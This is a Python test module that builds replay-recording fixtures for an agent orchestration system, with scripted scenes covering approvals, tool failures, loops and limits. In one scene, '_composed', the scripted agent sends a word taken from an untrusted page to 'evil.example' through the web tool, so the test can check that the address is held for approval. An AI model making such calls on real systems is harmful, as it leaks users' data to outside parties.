"""Recordings as fixtures: the agents they are of, how they are replayed, and how they are made anew.

``python -m tests.recordings`` makes all of them again, after a change that is meant: read the diff before it goes in.
"""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from infra.orchestration.machines.loop import EVENT_LIMIT, build_definition
from pentad.cli.expressions import evaluate_expression
from pentad.domain.declarations.agents import AgentSpec, BandsSpec, Catalog, ConfidenceSpec, ToolSpec
from pentad.domain.declarations.policy import PolicySpec, UntrustedDefaults
from pentad.domain.errors import PentadError, ToolFailed
from pentad.domain.ids import approval_id
from pentad.domain.knowledge import Passage
from pentad.domain.runs import Assessment, Band, CallStatus, Run, RunStatus, Signal
from pentad.domain.usage import Limits
from pentad.domain.values import rename_to_fields
from pentad.orchestration.approvals.carry_out import CarryOut
from pentad.orchestration.lifecycle.advance import build_execution_input
from pentad.orchestration.timetravel.recording import Recording, record
from pentad.orchestration.timetravel.replay.machine import Machine, MachineError
from pentad.orchestration.timetravel.replay.replay import Replay, add_request_prints
from pentad.orchestration.timetravel.replay.report import Report
from pentad.orchestration.turn.think import TurnInput
from pentad.runtime.wiring.replay import make_replay_stores
from tests.unit.orchestration.world import TENANT, World

FOLDER = Path(__file__).parent / "data" / "recordings"
Json = dict[str, Any]
_SECONDS = dict.fromkeys(("recall", "think", "await_human", "deliver", "run_tool"), 30)


def _tool(name: str, **values: Any) -> ToolSpec:
    schema = {"type": "object", "properties": {"order": {"type": "string"}}}
    return ToolSpec(name=name, description=f"The desk's {name}.", input_schema=schema, **values)


CATALOG = Catalog(
    agents={
        "desk": AgentSpec(
            name="desk",
            description="looks after orders",
            prompt="You look after orders.",
            tools=("order_status", "refund"),
            limits=Limits(steps=6),
        ),
        "careful": AgentSpec(
            name="careful",
            description="lets a human see what it is not sure of",
            prompt="You are careful.",
            tools=("order_status",),
            confidence=ConfidenceSpec(bands=BandsSpec()),
            requires={"customer": "Who is the customer?"},
        ),
        "reader": AgentSpec(name="reader", description="reads pages", prompt="You read.", tools=("web",)),
    },
    tools={
        "order_status": _tool("order_status", effects="none"),
        "refund": _tool("refund", effects="external", approval="always"),
        "web": _tool("web", effects="none", trusted_output=False, any_address=True),
    },
    policy=PolicySpec(untrusted=UntrustedDefaults(addresses="ask")),
)


def definition_of(agent: str, catalog: Catalog = CATALOG, *, event_limit: int = EVENT_LIMIT) -> Json:
    """Return the state machine that would be deployed for an agent."""
    spec = catalog.agents[agent]
    return build_definition(
        spec,
        recall="recall",
        think="think",
        await_human="await-human",
        deliver="deliver",
        run_tool="run-tool",
        tools={name: f"tool-{name}" for name in spec.tools},
        seconds=_SECONDS,
        one_by_one=[name for name in sorted(spec.tools) if not catalog.tools[name].parallel],
        event_limit=event_limit,
    )


def files() -> list[Path]:
    """Return all recordings."""
    return sorted(FOLDER.glob("*.json"))


def load(path: Path) -> Recording:
    """Return a recording."""
    return Recording.model_validate_json(path.read_text(encoding="utf-8"))


def replay(recording: Recording, catalog: Catalog = CATALOG, machine: Json | None = None) -> Report:
    """Replay a recording with a catalog and its machine, or another machine."""
    agent = recording.definition.agent
    definition = machine or definition_of(agent, catalog)
    return Replay(recording, definition, catalog, evaluate=evaluate_expression, make_stores=make_replay_stores)()


def capture(recording: Recording, machine: Json) -> Recording:
    """Return a recording with the prints of its requests."""
    return add_request_prints(recording, machine, evaluate=evaluate_expression, make_stores=make_replay_stores)


class Sureness:
    """An assessor that is as sure as it is told, turn by turn."""

    def __init__(self, *values: float) -> None:
        self._values = list(values)

    def assess(self, agent: AgentSpec, *given: Any, **named: Any) -> Assessment | None:
        value = self._values.pop(0)
        band = next(
            band
            for band, least in ((Band.AUTONOMOUS, 0.9), (Band.REVIEW, 0.7), (Band.DRAFT, 0.5), (Band.ESCALATE, 0))
            if value >= least
        )
        return Assessment(confidence=value, band=band, signals=(Signal(source="judge", score=value),))


Human = Callable[[World, str], None]
"""Decides an approval."""


class Stage:
    """Runs agents through their machines' definitions, in memory, for what they leave behind.

    Args:
        catalog: agents and tools.
        sure: how sure each turn that is assessed is.
        broken: tools whose function dies.
    """

    def __init__(
        self, catalog: Catalog = CATALOG, *, sure: tuple[float, ...] = (), broken: tuple[str, ...] = ()
    ) -> None:
        self.world = World(catalog)
        self.world.think._assessor = Sureness(*sure)
        self.passages: tuple[Passage, ...] = ()
        self._broken = broken
        self._humans: list[Human] = []
        self._run: Run | None = None

    def run(self, agent: str, message: str, script: list[Any], *humans: Human, **fields: Any) -> Run:
        """Run an agent to its end and return the run as it is stored."""
        self.world.model.script = list(script)
        self._humans = list(humans)
        self._run = self.world.begin(message, agent=agent, **fields)
        machine = Machine(definition_of(agent, self.world.catalog), self._invoke, self._run.run_id, evaluate_expression)
        try:
            machine.run(build_execution_input(self._run))
        except MachineError:
            pass  # Abort has ended the run.
        return self.world.runs.get(TENANT, self._run.run_id)

    def go_on(self, run: Run, script: list[Any], *humans: Human) -> Run:
        """Let a run that another service started go on to its end."""
        self.world.model.script = list(script)
        self._humans = list(humans)
        self._run = run
        definition = definition_of(run.agent, self.world.catalog)
        Machine(definition, self._invoke, run.run_id, evaluate_expression).run(build_execution_input(run))
        return self.world.runs.get(TENANT, run.run_id)

    def record(self, run: Run) -> Recording:
        """Return the recording of an ended run, as the command line keeps it."""
        world = self.world
        made = record(run, world.catalog, world.runs, world.sessions, world.approvals, at=world.clock())
        return capture(made, definition_of(run.agent, world.catalog))

    def _invoke(self, state: str, payload: Json) -> Any:
        self.world.clock.advance(1)
        given = {name: value for name, value in rename_to_fields(payload).items() if name != "op"}
        match payload.get("op"):
            case None:
                if self.world.runs.get(TENANT, given["run_id"]).status is RunStatus.QUEUED:
                    self.world.runs.set_status(TENANT, given["run_id"], RunStatus.RUNNING)
                return {}
            case "think":
                turn = TurnInput.model_validate(given)
                return self.world.think(turn, deadline=9e9).model_dump(mode="json", exclude_none=True)
            case "run":
                return self._tool(**given)
            case "call_failed":
                call = self.world.deliver.record_call_failure(**given)
                return {"index": call.index}
            case "request":
                return self._human(**given)
            case "deliver":
                return {"status": self.world.deliver.deliver(**given).status.value}
            case "abort":
                return {"status": self.world.deliver.abort(**given).status.value}
        raise AssertionError(f"{state} asks for {payload}")

    def _tool(self, *, tenant_id: str, run_id: str, step: int, index: int, agent: str, function: str) -> Json:
        call = self.world.runs.get_call(tenant_id, run_id, step, index)
        if call.tool in self._broken:
            raise ToolFailed("the warehouse does not answer")
        result = f"{call.tool} of {call.arguments.get('order', '?')}: done"
        untrusted = not self.world.catalog.tools[call.tool].trusted_output
        ended = {"status": CallStatus.SUCCEEDED, "result": result, "ended_at": self.world.clock()}
        ended["untrusted"] = untrusted
        self.world.runs.save_call(call.model_copy(update=ended))
        return {"index": index, "status": "succeeded"}

    def _human(self, *, tenant_id: str, run_id: str, step: int, task_token: str, **_: Any) -> Json:
        self.world.asking.ask_for_step(tenant_id, run_id, step, task_token)
        self.world.clock.advance(60)
        self._humans.pop(0)(self.world, approval_id(run_id, step))
        stored = self.world.approvals.get(tenant_id, approval_id(run_id, step))
        return CarryOut(self.world.runs, self.world.sessions, now=self.world.clock)(stored)


def says(verb: Any, **fields: Any) -> Human:
    """Return a human who decides so."""
    return lambda world, approval: void(world.decide(TENANT, approval, verb, by="ann", **fields))


def void(value: object) -> None:
    """Take a value and return nothing."""


STATUS: list[Any] = [("order_status", {"order": "A1"})]
REFUND: list[Any] = [("refund", {"order": "A1"})]


def _answer() -> tuple[Stage, Run]:
    stage = Stage()
    stage.run("desk", "Hello", ["Hello. What can I do?"], session="s1")
    return stage, stage.run("desk", "When do you open?", ["At nine."], session="s1")


def _parallel() -> tuple[Stage, Run]:
    stage = Stage()
    calls: list[Any] = [("order_status", {"order": "A1"}), ("order_status", {"order": "Ünï-2"})]
    return stage, stage.run("desk", "Where are A1 and Ünï-2?", [calls, STATUS, "Both are on their way."])


def _approved() -> tuple[Stage, Run]:
    stage = Stage()
    return stage, stage.run("desk", "Refund A1", [STATUS, [*STATUS, *REFUND], "It is refunded."], says("approve"))


def _rejected() -> tuple[Stage, Run]:
    stage = Stage()
    human = says("reject", reason="it was delivered")
    return stage, stage.run("desk", "Refund A1", [REFUND, "That is not possible: it was delivered."], human)


def _edited() -> tuple[Stage, Run]:
    stage = Stage()
    human = says("edit", arguments={0: {"order": "A2"}})
    return stage, stage.run("desk", "Refund A1", [REFUND, "A2 is refunded."], human)


def _tool_failure() -> tuple[Stage, Run]:
    stage = Stage(broken=("order_status",))
    return stage, stage.run("desk", "Where is A1?", [STATUS, "I can't tell: the warehouse does not answer."])


def _loop() -> tuple[Stage, Run]:
    stage = Stage()
    return stage, stage.run("desk", "Where is A1?", [STATUS, STATUS, STATUS, STATUS, STATUS])


def _limit() -> tuple[Stage, Run]:
    stage = Stage()
    script: list[Any] = [[("order_status", {"order": f"A{number}"})] for number in range(6)]
    return stage, stage.run("desk", "Where are all?", script)


def _degraded() -> tuple[Stage, Run]:
    stage = Stage()
    stage.world.model.degraded = True
    return stage, stage.run("desk", "Where is A1?", ["No model is available at the moment."])


def _draft() -> tuple[Stage, Run]:
    stage = Stage(sure=(0.6, 0.6))
    humans = (says("reject", reason="too short"), says("approve"))
    script = ["Yes.", "Yes, it arrives tomorrow."]
    return stage, stage.run("careful", "Will A1 come?", script, *humans, metadata={"customer": "ada"})


def _missing() -> tuple[Stage, Run]:
    stage = Stage(sure=(0.95,))
    return stage, stage.run("careful", "Will A1 come?", ["Yes, ada."], says("answer", text="ada"))


def _composed() -> tuple[Stage, Run]:
    """A page has been read, so an address that nobody gave is asked for, and one that the user gave is not."""
    stage = Stage()
    read: list[Any] = [("web", {"order": "https://tea.example/prices"})]
    stage.run("reader", "Read https://tea.example/prices", [read, "Tea is dear."], session="s2")
    told: list[Any] = [
        ("web", {"order": "https://shop.example/tea"}),
        ("web", {"order": "https://evil.example/?d=dear"}),
    ]
    return stage, stage.run(
        "reader", "And https://shop.example/tea?", [told, "It is cheap."], says("approve"), session="s2"
    )


def _failed() -> tuple[Stage, Run]:
    stage = Stage()
    return stage, stage.run("desk", "Where is A1?", [STATUS, PentadError("it broke")])


SCENES: dict[str, Callable[[], tuple[Stage, Run]]] = {
    "address_of_the_model": _composed,
    "answer": _answer,
    "approval_approved": _approved,
    "approval_edited": _edited,
    "approval_rejected": _rejected,
    "degraded": _degraded,
    "draft_rejected_then_approved": _draft,
    "failed": _failed,
    "limit": _limit,
    "loop": _loop,
    "missing_metadata": _missing,
    "parallel_tools": _parallel,
    "tool_failure": _tool_failure,
}


def make() -> None:
    """Make all recordings anew."""
    for name, scene in SCENES.items():
        stage, run = scene()
        text = stage.record(run).model_dump_json(indent=1, exclude_none=True)
        content = json.dumps(json.loads(text), indent=1, ensure_ascii=False)
        (FOLDER / f"{name}.json").write_text(content + "\n", encoding="utf-8")


if __name__ == "__main__":
    make()
